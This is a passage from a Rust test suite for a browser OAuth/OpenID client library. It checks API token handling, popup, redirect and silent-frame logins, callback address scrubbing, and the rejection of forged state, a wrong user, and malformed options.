    answer_api(&h, "AT-A", 3600, None);
    api_token(&h, API_A, None).unwrap();
    signed_in(&h);
    answer_api(&h, "AT-A-NEW", 3600, None);
    assert_eq!(api_token(&h, API_A, None).unwrap(), "AT-A-NEW");
}

#[test]
fn bad_resource_or_scope_is_invalid_options_before_any_request() {
    let h = harness();
    signed_in(&h);
    for (resource, scope, option) in [
        (Some("api-a"), None, "resource"),
        (Some("https://api.example/#frag"), None, "resource"),
        (Some(""), Some("read"), "resource"),
        (Some(API_A), Some(""), "scope"),
        (None, Some("re\"ad"), "scope"),
    ] {
        let e = block_on(h.client.access_token_for(
            resource.map(str::to_string),
            scope.map(str::to_string),
            30,
            false,
        ))
        .unwrap_err();
        assert_eq!(e.code(), "invalid_options");
        assert_eq!(e.option_name(), Some(option), "{resource:?} {scope:?}");
    }
    assert_eq!(h.http.sent().len(), 1, "no request");
}

#[test]
fn an_api_token_needs_a_session_with_a_refresh_token() {
    let h = harness();
    assert_eq!(
        api_token(&h, API_A, None).unwrap_err().code(),
        "login_required"
    );
    let (_, state, nonce) = start(&h);
    let body = token_body(&good_id_token(&nonce)).replace(r#","refresh_token":"RT-1""#, "");
    h.http.answer(200, &body);
    callback(&h, &format!("{REDIRECT}?code=C1&state={state}")).unwrap();
    let e = api_token(&h, API_A, None).unwrap_err();
    assert_eq!(e.code(), "login_required");
    assert!(e.to_string().contains("offline_access"));
    assert_eq!(h.http.sent().len(), 1, "no request");
    assert_eq!(h.events.borrow().last().unwrap(), "error:login_required");
}

#[test]
fn an_api_the_provider_refuses_keeps_the_session_and_invalid_grant_ends_it() {
    let h = harness();
    signed_in(&h);
    h.http.answer(
        400,
        r#"{"error":"invalid_target","error_description":"unknown API"}"#,
    );
    let e = api_token(&h, API_A, None).unwrap_err();
    assert_eq!(e.code(), "invalid_target");
    assert!(h.client.tokens().is_some(), "the session is kept");
    assert!(api_keys(&h).is_empty());

    h.http.answer(400, r#"{"error":"invalid_grant"}"#);
    let e = api_token(&h, API_A, None).unwrap_err();
    assert_eq!(e.code(), "login_required");
    assert!(h.client.tokens().is_none(), "the refresh token was refused");
}

#[test]
fn a_logout_while_an_api_token_is_asked_for_wins_and_revokes_what_it_brought() {
    let h = harness();
    signed_in(&h);
    answer_api(&h, "AT-A", 3600, Some("RT-2"));
    let call = h
        .client
        .access_token_for(Some(API_A.into()), None, 30, false);
    let e = logout_while_in_flight(&h, call, 2);
    assert_eq!(e.code(), "login_required");
    assert!(h.client.tokens().is_none() && api_keys(&h).is_empty());
    assert_eq!(revoked(&h), ["RT-2", "AT-A"]);
}

#[test]
fn a_session_refresh_waiting_behind_an_api_request_sends_the_token_it_rotated() {
    let h = harness();
    signed_in(&h);
    h.clock.set(NOW + 3_600_000); // the session's token expired
    answer_api(&h, "AT-A", 3600, Some("RT-2"));
    h.http.answer(
        200,
        r#"{"access_token":"AT-2","token_type":"Bearer","expires_in":3600,"refresh_token":"RT-3"}"#,
    );
    h.http.gate.set(true);
    let mut cx = Context::from_waker(Waker::noop());
    let mut api = Box::pin(
        h.client
            .access_token_for(Some(API_A.into()), None, 30, false),
    );
    let mut session = Box::pin(h.client.access_token(30, false));
    assert!(api.as_mut().poll(&mut cx).is_pending());
    // The session refresh starts from the set before the rotation, then waits its turn.
    assert!(session.as_mut().poll(&mut cx).is_pending());
    h.http.gate.set(false);
    assert_eq!(block_on(api.as_mut()).unwrap(), "AT-A");
    assert_eq!(block_on(session.as_mut()).unwrap(), "AT-2");
    assert_eq!(find(&form_of(&h, 1), "refresh_token"), Some("RT-1"));
    assert_eq!(find(&form_of(&h, 2), "refresh_token"), Some("RT-2"));
    assert_eq!(session_refresh_token(&h), "RT-3");
}

#[test]
fn an_api_token_the_provider_cannot_revoke_is_no_error_at_logout_any_other_failure_is() {
    let h = harness();
    signed_in(&h);
    answer_api(&h, "AT-A", 3600, None);
    api_token(&h, API_A, None).unwrap();
    h.http.answer_at(REVOKE_URL, 200, "");
    h.http.answer_at(REVOKE_URL, 200, "");
    h.http
        .answer_at(REVOKE_URL, 400, r#"{"error":"unsupported_token_type"}"#);
    h.events.borrow_mut().clear();
    block_on(h.client.logout(true, None)).unwrap();
    assert_eq!(*h.events.borrow(), ["logout"]);

    signed_in(&h);
    answer_api(&h, "AT-A", 3600, None);
    api_token(&h, API_A, None).unwrap();
    h.http.answer_at(REVOKE_URL, 200, "");
    h.http.answer_at(REVOKE_URL, 200, "");
    h.http
        .answer_at(REVOKE_URL, 400, r#"{"error":"invalid_client"}"#);
    h.events.borrow_mut().clear();
    block_on(h.client.logout(true, None)).unwrap();
    assert_eq!(*h.events.borrow(), ["logout", "error:invalid_client"]);
}

// ---- The page and the popup (Navigation port) ----

/// Polls `f` once, as a browser's first turn of the task does.
fn poll_once<F: Future>(f: Pin<&mut F>) -> Poll<F::Output> {
    f.poll(&mut Context::from_waker(Waker::noop()))
}

/// The provider's side of a popup login: queues the token answer for the
/// login at `authorize_url` and returns the callback URL it sends the popup to.
fn provider_answers(http: &FakeHttp, authorize_url: &str) -> String {
    let params = query_pairs(authorize_url);
    http.answer(
        200,
        &token_body(&good_id_token(find(&params, "nonce").unwrap())),
    );
    let state = find(&params, "state").unwrap();
    format!("{REDIRECT}?code=C1&state={state}")
}

#[test]
fn a_popup_login_finishes_with_the_callback_the_popup_hands_back() {
    let h = harness();
    let http = h.http.clone();
    h.navigation
        .popup_does(move |url| Ok(provider_answers(&http, url)));
    let request = LoginRequest {
        app_state: Some(r#"{"returnTo":"/inbox"}"#.into()),
        ..LoginRequest::default()
    };
    let outcome = block_on(h.client.login_with_popup(&request, 60_000)).unwrap();
    assert_eq!(outcome.tokens.access_token, "AT-1");
    assert_eq!(
        outcome.app_state.as_deref(),
        Some(r#"{"returnTo":"/inbox"}"#)
    );
    assert_eq!(h.client.tokens().unwrap().access_token, "AT-1");
    // Opened before anything was sent, waited on with the app's timeout,
    // and left for the popup to close itself.
    assert_eq!(h.navigation.log(), ["open @0", "wait 60000 @0"]);
    assert_eq!(h.http.sent().len(), 1, "the code was exchanged");
}

#[test]
fn the_popup_opens_in_the_first_turn_before_the_first_await() {
    // With discovery, the login's first await is a request; held here, the
    // first poll (the click's own turn) ends at it.
    let h = harness_with(discovery_options());
    h.http.gate.set(true);
    let request = LoginRequest::default();
    let login = h.client.login_with_popup(&request, POPUP_TIMEOUT_MS);
    let mut login = pin!(login);
    assert!(poll_once(login.as_mut()).is_pending());
    assert_eq!(h.navigation.log(), ["open @0"]);
    assert_eq!(h.http.requests.borrow().len(), 1, "waiting for discovery");
}

#[test]
fn a_blocked_popup_fails_before_anything_is_sent_or_stored() {
    let h = harness();
    h.navigation.blocks_popups.set(true);
    let e = block_on(h.client.login_with_popup(&LoginRequest::default(), 60_000)).unwrap_err();
    assert_eq!(e.code(), "popup_blocked");
    assert!(h.http.requests.borrow().is_empty());
    assert!(h.storage.keys_with_prefix(KEY_PREFIX).is_empty());
}

#[test]
fn a_popup_closed_or_timed_out_rejects_with_its_code_and_exchanges_nothing() {
    for (code, name) in [
        (ErrorCode::PopupClosed, "popup_closed"),
        (ErrorCode::Timeout, "timeout"),
    ] {
        let h = harness();
        h.navigation
            .popup_does(move |_| Err(AuthError::new(code, "the popup's end")));
        let e = block_on(h.client.login_with_popup(&LoginRequest::default(), 1_000)).unwrap_err();
        assert_eq!(e.code(), name);
        assert_eq!(h.navigation.log(), ["open @0", "wait 1000 @0"]);
        assert!(h.http.sent().is_empty(), "no code exchanged");
        assert!(h.client.tokens().is_none());
    }
}

#[test]
fn a_popup_login_that_cannot_start_closes_its_popup() {
    let mut o = options();
    o.use_par = Some(true);
    let h = harness_with(o);
    h.http.answer_at(
        "https://auth.example/api/v1/oauth/par",
        400,
        r#"{"error":"invalid_request"}"#,
    );
    let e = block_on(h.client.login_with_popup(&LoginRequest::default(), 60_000)).unwrap_err();
    assert_eq!(e.code(), "invalid_request");
    assert_eq!(h.navigation.log(), ["open @0", "close @1"]);
}

#[test]
fn a_popup_whose_callback_fails_rejects_with_the_callbacks_error() {
    let h = harness();
    h.navigation
        .popup_does(|_| Ok(format!("{REDIRECT}?error=access_denied&state=forged")));
    let e = block_on(h.client.login_with_popup(&LoginRequest::default(), 60_000)).unwrap_err();
    assert_eq!(e.code(), "state_mismatch");
    assert!(h.client.tokens().is_none());
}

/// The popup hand-back's order (web.js `popupHandBack`, `popupWait`): the
/// popup's callback page hands the URL to its opener and leaves its window
/// open; the opener takes the URL, then closes the popup. Played here with
/// both pages' clients: the popup's callback page is run when the provider
/// sends the popup to it, and the opener's wait ends as `popupWait` does:
/// `popup_closed` when the popup is closed before anything was handed back,
/// else the URL, and only then is the popup closed, which ends no login.
#[test]
fn the_opener_closes_the_popup_only_once_it_holds_the_callback_and_that_close_is_no_popup_closed() {
    let opener = harness();
    let popup_page = Rc::new(harness());
    popup_page.navigation.own_popup.set(true);
    let http = opener.http.clone();
    let window = opener.navigation.clone();
    let page = popup_page.clone();
    opener.navigation.popup_does(move |authorize_url| {
        let callback = provider_answers(&http, authorize_url);
        *page.navigation.address.borrow_mut() = Some(callback.clone());
        let run = page.client.handle_redirect_callback(&callback);
        assert!(
            poll_once(pin!(run)).is_pending(),
            "the popup's page never settles"
        );
        if window.popup_closed.get() {
            return Err(AuthError::new(
                ErrorCode::PopupClosed,
                "closed before the hand-back",
            ));
        }
        let url = page.navigation.handed_back.borrow().clone();
        let url =
            url.ok_or_else(|| AuthError::new(ErrorCode::PopupClosed, "nothing handed back"))?;
        window.note("the opener closes the popup");
        window.popup_closed.set(true);
        Ok(url)
    });
    let outcome = block_on(
        opener
            .client
            .login_with_popup(&LoginRequest::default(), 60_000),
    )
    .unwrap();
    assert_eq!(outcome.tokens.access_token, "AT-1");
    assert_eq!(opener.client.tokens().unwrap().access_token, "AT-1");
    assert_eq!(
        opener.navigation.log(),
        ["open @0", "wait 60000 @0", "the opener closes the popup @0"],
        "closed by the opener once it held the URL, before the code was exchanged"
    );
    assert_eq!(opener.http.sent().len(), 1, "the opener exchanged the code");
    let handed = popup_page.navigation.handed_back.borrow().clone().unwrap();
    assert_eq!(
        popup_page.navigation.log(),
        [
            format!("replace {REDIRECT} @0"),
            format!("hand back {handed} @0")
        ],
        "the popup's page handed back and did nothing after"
    );
    assert!(popup_page.http.requests.borrow().is_empty());
}

#[test]
fn the_callback_page_scrubs_the_address_before_the_code_is_exchanged() {
    let h = harness();
    let (_, state, nonce) = start(&h);
    h.http.answer(200, &token_body(&good_id_token(&nonce)));
    let url = format!("{REDIRECT}?code=C1&state={state}&tab=2");
    *h.navigation.address.borrow_mut() = Some(url.clone());
    block_on(h.client.handle_redirect_callback(&url)).unwrap();
    assert_eq!(h.navigation.log(), [format!("replace {REDIRECT}?tab=2 @0")]);
    assert_eq!(h.http.sent().len(), 1, "then the code was exchanged");
    assert_eq!(h.client.tokens().unwrap().access_token, "AT-1");
}

#[test]
fn the_callback_page_scrubs_the_address_even_when_the_callback_fails() {
    let h = harness();
    start(&h);
    let url = format!("{REDIRECT}?code=C1&state=forged");
    *h.navigation.address.borrow_mut() = Some(url.clone());
    let e = block_on(h.client.handle_redirect_callback(&url)).unwrap_err();
    assert_eq!(e.code(), "state_mismatch");
    assert_eq!(h.navigation.log(), [format!("replace {REDIRECT} @0")]);
    assert_eq!(
        h.navigation.current_url().as_deref(),
        Some(REDIRECT),
        "no code left in the address bar"
    );
}

#[test]
fn in_our_own_popup_the_callback_goes_to_the_opener_and_never_settles() {
    let h = harness();
    let (_, state, _) = start(&h);
    let url = format!("{REDIRECT}?code=C1&state={state}");
    *h.navigation.address.borrow_mut() = Some(url.clone());
    h.navigation.own_popup.set(true);
    let page = h.client.handle_redirect_callback(&url);
    let mut page = pin!(page);
    for _ in 0..100 {
        assert!(poll_once(page.as_mut()).is_pending());
    }
    assert_eq!(
        h.navigation.log(),
        [
            format!("replace {REDIRECT} @0"),
            format!("hand back {url} @0")
        ]
    );
    assert!(
        h.http.requests.borrow().is_empty(),
        "the opener exchanges the code, not the popup"
    );
    assert!(h.client.tokens().is_none());
}

#[test]
fn in_our_own_silent_frame_the_callback_goes_to_the_parent_and_never_settles() {
    let h = harness_with(AuthClientOptions {
        silent_redirect_uri: Some(format!("{REDIRECT}?silent")),
        ..options()
    });
    // The parent's pending login (frames of one tab share its session
    // storage): the frame must leave it for the parent to use.
    let (_, state, _) = start(&h);
    let url = format!("{REDIRECT}?silent&code=C1&state={state}");
    *h.navigation.address.borrow_mut() = Some(url.clone());
    h.frame.own_frame.set(true);
    let page = h.client.handle_redirect_callback(&url);
    let mut page = pin!(page);
    for _ in 0..100 {
        assert!(poll_once(page.as_mut()).is_pending());
    }
    // Scrubbed first, then handed back, before any request.
    assert_eq!(
        h.navigation.log(),
        [
            format!("replace {REDIRECT}?silent @0"),
            format!("frame hand back {url} @0")
        ]
    );
    assert!(
        h.http.requests.borrow().is_empty(),
        "the parent exchanges the code, not the frame"
    );
    assert!(h.client.tokens().is_none());
    assert!(h.events.borrow().is_empty(), "nothing told in the frame");
    let pending = h.storage.keys_with_prefix(KEY_PREFIX);
    assert!(
        pending.iter().any(|k| k.contains(&state)),
        "the pending login is left for the parent: {pending:?}"
    );
}

#[test]
fn in_our_own_silent_frame_an_error_answer_is_handed_back_too() {
    // login_required and the like are the parent's to report: the frame
    // hands them back as it does a code, and tells nothing itself.
    let h = harness();
    let url = format!("{REDIRECT}?error=login_required&state=S1");
    *h.navigation.address.borrow_mut() = Some(url.clone());
    h.frame.own_frame.set(true);
    let page = h.client.handle_redirect_callback(&url);
    let mut page = pin!(page);
    assert!(poll_once(page.as_mut()).is_pending());
    assert!(poll_once(page.as_mut()).is_pending());
    assert_eq!(
        h.navigation.log(),
        [
            format!("replace {REDIRECT} @0"),
            format!("frame hand back {url} @0")
        ]
    );
    assert!(h.events.borrow().is_empty());
}

#[test]
fn a_callback_url_other_than_the_address_is_handled_without_touching_the_page() {
    let h = harness();
    let (_, state, nonce) = start(&h);
    h.http.answer(200, &token_body(&good_id_token(&nonce)));
    *h.navigation.address.borrow_mut() = Some("https://app.example/elsewhere".into());
    // Even in our own popup or silent frame: only the page's own address is
    // handed back.
    h.navigation.own_popup.set(true);
    h.frame.own_frame.set(true);
    let url = format!("{REDIRECT}?code=C1&state={state}");
    block_on(h.client.handle_redirect_callback(&url)).unwrap();
    assert!(h.navigation.log().is_empty());
    assert_eq!(h.client.tokens().unwrap().access_token, "AT-1");
}

#[test]
fn a_redirect_login_sends_the_page_to_the_provider_and_completes_on_return() {
    let h = harness();
    block_on(h.client.login_with_redirect(&LoginRequest::default(), None)).unwrap();
    let log = h.navigation.log();
    assert_eq!(log.len(), 1);
    assert!(
        log[0].starts_with("navigate https://auth.example/"),
        "{log:?}"
    );
    let authorize_url = h.navigation.current_url().unwrap();
    let callback_url = provider_answers(&h.http, &authorize_url);
    block_on(h.client.handle_callback(&callback_url)).unwrap();
    assert_eq!(h.client.tokens().unwrap().access_token, "AT-1");
}

#[test]
fn a_redirect_login_that_cannot_start_leaves_the_page_where_it_is() {
    let h = harness_with(AuthClientOptions {
        dpop: Some(true),
        ..options()
    });
    let e = block_on(
        h.client
            .login_with_redirect(&LoginRequest::default(), Some(ImplicitType::Token)),
    )
    .unwrap_err();
    assert_eq!(e.code(), "invalid_options");
    assert!(h.navigation.log().is_empty());
}

#[test]
fn logout_goes_to_the_end_session_page_only_when_there_is_one() {
    let h = harness();
    signed_in(&h);
    block_on(h.client.logout_and_leave(false, None)).unwrap();
    assert!(h.navigation.log().is_empty(), "no end-session page");
    let mut o = options();
    o.endpoints = Some(EndpointOptions {
        end_session: Some("https://auth.example/logout".into()),
        ..EndpointOptions::default()
    });
    let h = harness_with(o);
    signed_in(&h);
    block_on(h.client.logout_and_leave(false, None)).unwrap();
    assert!(h.client.tokens().is_none());
    let log = h.navigation.log();
    assert_eq!(log.len(), 1);
    assert!(
        log[0].starts_with("navigate https://auth.example/logout?"),
        "{log:?}"
    );
}

// ---- The other tabs' news (Tabs::deliver_to) ----

/// A client as the face opens it, with its tabs and what its app is told.
fn opened(f: Fakes) -> (Rc<TestClient>, FakeTabs, Rc<RefCell<Vec<String>>>) {
    let (tabs, events) = (f.tabs.clone(), f.events.0.clone());
    let client = Client::open(Config::from_options(options(), &WhatwgUrl).unwrap(), f).unwrap();
    (client, tabs, events)
}

#[test]
fn another_tabs_news_reaches_the_app_through_the_client() {
    let (client, tabs, events) = opened(fakes());
    let newer = format!(
        r#"{{"v":1,"access_token":"AT-FROM-TAB-B","token_type":"Bearer","expires_at":{},"refresh_token":"RT-9"}}"#,
        NOW + 2 * 3_600_000
    );
    tabs.another_tab_publishes(Published::Tokens(newer));
    assert_eq!(*events.borrow(), ["tokens:13"]);
    assert_eq!(client.tokens().unwrap().access_token, "AT-FROM-TAB-B");
    tabs.another_tab_publishes(Published::Tokens(r#"{"v":1,"access_token":7}"#.into()));
    assert_eq!(events.borrow().len(), 1, "no token set, nothing told");
    tabs.another_tab_publishes(Published::LoggedOut);
    assert_eq!(*events.borrow(), ["tokens:13", "logout"]);
    assert!(client.tokens().is_none());
    drop(client);
    tabs.another_tab_publishes(Published::LoggedOut);
    assert_eq!(events.borrow().len(), 2, "a freed client tells nothing");
}

#[test]
fn a_client_secret_is_refused_in_a_browser_before_the_client_opens() {
    let mut o = options();
    o.client_secret = Some("s3cret".into());
    let f = fakes();
    let tabs = f.tabs.clone();
    let e = Client::open(Config::from_options(o.clone(), &WhatwgUrl).unwrap(), f)
        .err()
        .unwrap();
    assert_eq!(e.code(), "secret_in_browser");
    assert!(
        tabs.receiver.borrow().is_none(),
        "never joined the other tabs"
    );
    let f = Fakes {
        runtime: FakeRuntime(false),
        ..fakes()
    };
    assert!(Client::open(Config::from_options(o, &WhatwgUrl).unwrap(), f).is_ok());
}

mod silent_sign_in {
    //! Silent sign-in: `prompt=none` in a hidden frame (here a fake), its
    //! answers, its timeout, forged hand-backs, one attempt at a time.
    use super::*;
    use wasm_oauth::client::SilentReason;
    use wasm_oauth::core::tokens::TokenSet;

    /// The registered redirect URI with a query of its own, as the provider
    /// allows (one redirect URI per client, extra query parameters allowed).
    const SILENT: &str = "https://app.example/callback?silent";

    /// A client with silent sign-in on and no refresh tokens.
    fn silent_harness() -> Harness {
        harness_with(AuthClientOptions {
            silent_redirect_uri: Some(SILENT.into()),
            scope: Some("openid profile".into()),
            ..options()
        })
    }

    /// The frame's callback page hands back `query` (plus the request's
    /// state) for every request.
    fn frame_answers(h: &Harness, query: &'static str) {
        let answer: FrameAnswer = Rc::new(move |params| {
            let state = find(params, "state")?;
            Some(format!("{SILENT}&{query}&state={state}"))
        });
        *h.frame.answer.borrow_mut() = Some(answer);
    }

    /// The provider's token answer for a silent sign-in: no refresh token.
    fn silent_token_body(access_token: &str, nonce: &str) -> String {
        format!(
            r#"{{"access_token":"{access_token}","token_type":"Bearer","expires_in":3600,"scope":"openid profile","id_token":"{}"}}"#,
            good_id_token(nonce)
        )
    }

    /// The nonce of the `n`th request the frame loaded.
    fn nonce_of_load(h: &Harness, n: usize) -> String {
        let url = h.frame.loads.borrow()[n].0.clone();
        find(&query_pairs(&url), "nonce").unwrap().to_string()
    }

    fn login_silently(h: &Harness) -> Result<TokenSet, AuthError> {
        block_on(h.client.login_silently(SilentReason::Asked))
    }

    fn pending_logins(h: &Harness) -> usize {
        h.storage
            .keys_with_prefix(KEY_PREFIX)
            .iter()
            .filter(|k| k.contains(":tx:"))
            .count()
    }

    /// Answers the token request of the frame's next load with `access_token`:
    /// the nonce is only known once the frame loads, so the gate holds the
    /// frame until the answer is queued.
    fn silent_sign_in(h: &Harness, access_token: &str) -> Result<TokenSet, AuthError> {
        frame_answers(h, "code=SILENT-CODE");
        h.frame.gate.set(true);
        let mut call = Box::pin(h.client.login_silently(SilentReason::Asked));
        let mut cx = Context::from_waker(Waker::noop());
        assert!(
            call.as_mut().poll(&mut cx).is_pending(),
            "the frame is loading"
        );
        let n = h.frame.loads.borrow().len() - 1;
        h.http
            .answer(200, &silent_token_body(access_token, &nonce_of_load(h, n)));
        h.frame.gate.set(false);
        poll_ready(&mut call)
    }

    #[test]
    fn success_sends_prompt_none_with_pkce_state_and_nonce_and_stores_the_tokens() {
        let h = silent_harness();
        let tokens = silent_sign_in(&h, "AT-SILENT").unwrap();
        assert_eq!(tokens.access_token.secret(), "AT-SILENT");
        let (url, timeout_ms) = h.frame.loads.borrow()[0].clone();
        assert_eq!(timeout_ms, 10_000, "the default timeout");
        assert!(url.starts_with("https://auth.example/auth/authorize?"));
        let params = query_pairs(&url);
        assert_eq!(find(&params, "prompt"), Some("none"));
        assert_eq!(find(&params, "response_type"), Some("code"));
        assert_eq!(find(&params, "redirect_uri"), Some(SILENT));
        assert_eq!(find(&params, "code_challenge_method"), Some("S256"));
        assert!(find(&params, "code_challenge").is_some_and(|c| c.len() == 43));
        assert!(find(&params, "state").is_some_and(|s| s.len() >= 43));
        assert!(find(&params, "nonce").is_some_and(|n| n.len() >= 43));
        assert_eq!(find(&params, "response_mode"), None, "the default: query");
        // The code is redeemed with the silent page as redirect_uri and the verifier.
        let sent = h.http.sent();
        let form = parse_pairs(sent[0].form.as_deref().unwrap()).unwrap();
        assert_eq!(find(&form, "grant_type"), Some("authorization_code"));
        assert_eq!(find(&form, "code"), Some("SILENT-CODE"));
        assert_eq!(find(&form, "redirect_uri"), Some(SILENT));
        let challenge = find(&params, "code_challenge").unwrap();
        let verifier = find(&form, "code_verifier").unwrap();
        assert_eq!(
            CodeVerifier::parse(verifier).unwrap().challenge(),
            challenge
        );
        assert_eq!(
            h.client.tokens().unwrap().access_token.secret(),
            "AT-SILENT"
        );
        assert_eq!(pending_logins(&h), 0, "the pending login was used once");
        assert_eq!(*h.events.borrow(), vec!["tokens:9".to_string()]);
    }

    #[test]
    fn the_providers_need_for_the_user_comes_back_as_its_own_code() {
        for code in ["login_required", "consent_required", "interaction_required"] {
            let h = silent_harness();
            let before = silent_sign_in(&h, "AT-BEFORE").unwrap();
            h.events.borrow_mut().clear();
            match code {
                "login_required" => frame_answers(&h, "error=login_required"),
                "consent_required" => frame_answers(&h, "error=consent_required"),
                _ => frame_answers(&h, "error=interaction_required&error_description=MFA"),
            }
            let e = login_silently(&h).unwrap_err();
            assert_eq!(e.code(), code);
            assert_eq!(h.http.sent().len(), 1, "{code}: no token request");
            assert_eq!(pending_logins(&h), 0, "{code}: nothing left pending");
            assert_eq!(*h.events.borrow(), vec![format!("error:{code}")]);
            // A refusal ends nothing: the tokens held stay.
            assert_eq!(h.client.tokens().unwrap(), before, "{code}");
            if code == "login_required" {
                assert!(
                    e.message().contains("third-party cookies"),
                    "{}",
                    e.message()
                );
                assert!(e.message().contains("offline_access"), "{}", e.message());
            } else {
                assert!(e.message().contains("loginWithRedirect"), "{}", e.message());
            }
            if code == "interaction_required" {
                assert_eq!(e.description(), Some("MFA"));
            }
        }
    }

    #[test]
    fn a_frame_that_never_answers_is_a_timeout_and_leaves_nothing_pending() {
        let h = harness_with(AuthClientOptions {
            silent_redirect_uri: Some(SILENT.into()),
            silent_timeout_seconds: Some(2.0),
            ..options()
        });
        let e = login_silently(&h).unwrap_err();
        assert_eq!(e.code(), "timeout");
        assert_eq!(h.frame.loads.borrow()[0].1, 2_000, "silentTimeoutSeconds");
        assert_eq!(pending_logins(&h), 0);
        assert!(h.http.sent().is_empty());
        assert_eq!(*h.events.borrow(), vec!["error:timeout".to_string()]);
    }

    #[test]
    fn a_forged_hand_back_is_a_state_mismatch_and_consumes_no_other_login() {
        let h = silent_harness();
        // A redirect login is pending in this tab; a frame hands back a
        // response carrying its state, or a made-up one.
        let (_, redirect_state, _) = start(&h);
        for forged in [redirect_state.clone(), "forged-state".to_string()] {
            let answer: FrameAnswer =
                Rc::new(move |_| Some(format!("{SILENT}&code=STOLEN&state={forged}")));
            *h.frame.answer.borrow_mut() = Some(answer);
            let e = login_silently(&h).unwrap_err();
            assert_eq!(e.code(), "state_mismatch");
        }
        let answer: FrameAnswer = Rc::new(|_| Some(format!("{SILENT}&code=STOLEN")));
        *h.frame.answer.borrow_mut() = Some(answer);
        assert_eq!(login_silently(&h).unwrap_err().code(), "state_mismatch");
        assert!(h.http.sent().is_empty(), "no code was redeemed");
        assert!(h.client.tokens().is_none());
        assert_eq!(pending_logins(&h), 1, "the redirect login is still pending");
        // ...and still completes (its nonce read from the stored login).
        let key = h
            .storage
            .keys_with_prefix(KEY_PREFIX)
            .into_iter()
            .find(|k| k.contains(":tx:"))
            .unwrap();
        let stored: serde_json::Value =
            serde_json::from_str(&h.storage.get(&key).unwrap()).unwrap();
        let nonce = stored["nonce"].as_str().unwrap().to_string();
        h.http.answer(200, &token_body(&good_id_token(&nonce)));
        callback(&h, &format!("{REDIRECT}?code=C1&state={redirect_state}")).unwrap();
    }

    #[test]
    fn another_user_at_the_provider_is_no_renewal_of_this_session() {
        let h = silent_harness();
        let alice = silent_sign_in(&h, "AT-ALICE").unwrap();
        frame_answers(&h, "code=C2");
        h.frame.gate.set(true);
        let mut call = Box::pin(h.client.login_silently(SilentReason::Asked));
        let mut cx = Context::from_waker(Waker::noop());
        assert!(call.as_mut().poll(&mut cx).is_pending());
        let bob = claims_at(&nonce_of_load(&h, 1), NOW / 1000)
            .replace("urn:xeonr:user:alice", "urn:xeonr:user:bob");
        h.http.answer(
            200,
            &format!(
                r#"{{"access_token":"AT-BOB","token_type":"Bearer","expires_in":3600,"id_token":"{}"}}"#,
                id_token(&bob)
            ),
        );
        h.frame.gate.set(false);
        let e = poll_ready(&mut call).unwrap_err();
        assert_eq!(e.code(), "login_required");
        assert!(e.message().contains("another user"), "{}", e.message());
        assert_eq!(h.client.tokens().unwrap(), alice, "the session was kept");
    }

    #[test]
    fn concurrent_calls_share_one_attempt() {
        let h = silent_harness();
        silent_sign_in(&h, "AT-1").unwrap();
        h.frame.loads.borrow_mut().clear();
        h.http.requests.borrow_mut().clear();
        h.tabs.locks_taken.set(0);
        h.clock.set(NOW + 3_600_000); // expired
        frame_answers(&h, "code=SILENT-CODE");
        h.frame.gate.set(true);
        let mut cx = Context::from_waker(Waker::noop());
        let mut asked: Vec<_> = (0..5)
            .map(|_| Box::pin(h.client.login_silently(SilentReason::Asked)))
            .collect();
        for c in asked.iter_mut() {
            assert!(c.as_mut().poll(&mut cx).is_pending());
        }
        // getAccessToken renewing the expired session joins the same attempt.
        let mut tokens: Vec<_> = (0..5)
            .map(|_| Box::pin(h.client.access_token(30, false)))
            .collect();
        for c in tokens.iter_mut() {
            assert!(c.as_mut().poll(&mut cx).is_pending());
        }
        assert_eq!(h.frame.loads.borrow().len(), 1, "one frame");
        let claims = claims_at(&nonce_of_load(&h, 0), (NOW + 3_600_000) / 1000);
        h.http.answer(
            200,
            &format!(
                r#"{{"access_token":"AT-ONCE","token_type":"Bearer","expires_in":3600,"id_token":"{}"}}"#,
                id_token(&claims)
            ),
        );
        h.frame.gate.set(false);
        for c in asked.iter_mut() {
            assert_eq!(poll_ready(c).unwrap().access_token.secret(), "AT-ONCE");
        }
        for c in tokens.iter_mut() {
            assert_eq!(poll_ready(c).unwrap().secret(), "AT-ONCE");
        }
        assert_eq!(h.http.sent().len(), 1, "one code exchange");
        assert_eq!(h.tabs.locks_taken.get(), 1, "one turn under the tabs' lock");
    }

    #[test]
    fn get_access_token_renews_silently_without_a_refresh_token() {
        let h = silent_harness();
        silent_sign_in(&h, "AT-1").unwrap();
        // Still valid: no frame.
        assert_eq!(
            block_on(h.client.access_token(30, false)).unwrap().secret(),
            "AT-1"
        );
        assert_eq!(h.frame.loads.borrow().len(), 1);
        h.clock.set(NOW + 3_600_000); // expired
        frame_answers(&h, "code=C2");
        h.frame.gate.set(true);
        let mut call = Box::pin(h.client.access_token(30, false));
        let mut cx = Context::from_waker(Waker::noop());
        assert!(call.as_mut().poll(&mut cx).is_pending());
        let claims = claims_at(&nonce_of_load(&h, 1), (NOW + 3_600_000) / 1000);
        h.http.answer(
            200,
            &format!(
                r#"{{"access_token":"AT-2","token_type":"Bearer","expires_in":3600,"id_token":"{}"}}"#,
                id_token(&claims)
            ),
        );
        h.frame.gate.set(false);
        assert_eq!(poll_ready(&mut call).unwrap().secret(), "AT-2");
        assert_eq!(h.frame.loads.borrow().len(), 2);
    }

    #[test]
    fn a_refresh_token_is_used_before_any_frame() {
        let h = harness_with(AuthClientOptions {
            silent_redirect_uri: Some(SILENT.into()),
            ..options()
        });
        signed_in(&h); // with a refresh token
        h.clock.set(NOW + 3_600_000);
        h.http.answer(
            200,
            r#"{"access_token":"AT-2","token_type":"Bearer","expires_in":3600,"refresh_token":"RT-2"}"#,
        );
        assert_eq!(
            block_on(h.client.access_token(30, false)).unwrap().secret(),
            "AT-2"
        );
        assert!(h.frame.loads.borrow().is_empty());
    }

    #[test]
    fn without_silent_redirect_uri_nothing_loads() {
        let h = harness_with(AuthClientOptions {
            scope: Some("openid profile".into()),
            ..options()
        });
        let e = login_silently(&h).unwrap_err();
        assert_eq!(e.code(), "invalid_options");
        assert_eq!(e.option_name(), Some("silentRedirectUri"));
        // getAccessToken keeps its answer for a page without a session.
        let e = block_on(h.client.access_token(30, false)).unwrap_err();
        assert_eq!(e.code(), "login_required");
        assert!(h.frame.loads.borrow().is_empty());
    }

    #[test]
    fn get_access_token_without_a_session_loads_no_frame() {
        // After a logout that left the provider's session alone, a frame
        // would sign the user straight back in.
        let h = silent_harness();
        silent_sign_in(&h, "AT-1").unwrap();
        block_on(h.client.logout(false, None)).unwrap();
        let e = block_on(h.client.access_token(30, false)).unwrap_err();
        assert_eq!(e.code(), "login_required");
        assert_eq!(
            h.frame.loads.borrow().len(),
            1,
            "only the sign-in's own frame"
        );
    }

    #[test]
